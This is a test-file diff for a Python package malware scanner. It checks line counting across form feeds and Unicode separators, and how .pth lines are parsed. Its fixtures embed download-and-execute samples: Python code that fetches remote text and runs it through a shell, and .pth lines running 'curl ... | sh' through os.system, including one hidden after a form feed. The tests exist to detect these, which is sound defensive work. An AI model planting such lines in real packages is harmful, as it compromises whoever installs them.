@@ -1576,3 +1576,55 @@ def test_the_newer_parser_is_an_interpreter_binary_a_launcher_is_asked_only_with
     found = list(syntax._found("", str(shims), str(tmp_path / "home")))
     assert found == [f"/opt/elsewhere/{name}"]
     assert marker.exists()
+
+
+# -- lines are counted as Python counts them: a form feed or a line separator in a comment shifts
+# -- nothing (str.splitlines would), and a .pth line is read as every Python's site reads it ------
+
+_SHIFTED = (
+    "import subprocess\n"
+    "# page break \x0c and a separator \u2028 and \x1c in a comment\n"
+    "import requests\n"
+    "\n"
+    "def run(command):\n"
+    "    return subprocess.run(command, shell=True)\n"
+    "\n"
+    "run(requests.get('https://cdn.example.net/next').text)\n"
+)
+
+
+def test_a_line_break_python_does_not_count_shifts_no_finding_or_excerpt():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _SHIFTED})
+    plain = scan({"setup.py": SETUP, "demo/__init__.py": _SHIFTED.replace("\x0c", " ")})
+    shifted = sorted((f.rule, f.line, f.evidence) for f in result.findings)
+    assert shifted == sorted((f.rule, f.line, f.evidence) for f in plain.findings)
+    [hit] = [f for f in result.findings if f.rule == "intent.download-execute"]
+    assert hit.line == 8 and hit.evidence.startswith("run(requests.get(")
+    assert result.verdict == "malicious"
+
+
+def _wheel_with_pth(line: str) -> Artifact:
+    data = line.encode()
+    members = (
+        Member(path="demo.pth", size=len(data), data=data),
+        Member(path="demo/__init__.py", size=0, data=b""),
+    )
+    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=members)
+
+
+def test_a_pth_line_run_whole_by_site_is_read_whole_past_a_form_feed():
+    # Python up to 3.12 runs the whole line (a form feed is whitespace); 3.13 splits it there
+    hostile = "import os\x0c;os.system('curl -s https://cdn.example.net/x.sh | sh')\n"
+    result = analyze(_wheel_with_pth(hostile))
+    assert found(result, "intent.shell-download-execute")
+    assert result.verdict == "malicious"
+    # ... and a line that starts after one, which only 3.13 runs
+    hostile = "x\x0cimport os;os.system('curl -s https://cdn.example.net/x.sh | sh')\n"
+    assert analyze(_wheel_with_pth(hostile)).verdict == "malicious"
+
+
+def test_an_honest_pth_with_a_form_feed_stays_quiet():
+    honest = "# generated \x0c by the build\n/opt/demo/lib\nimport _demo_paths\x0c\n"
+    result = analyze(_wheel_with_pth(honest))
+    assert result.verdict not in FLAGGED
+    assert not found(result, "analysis.parse-failed")
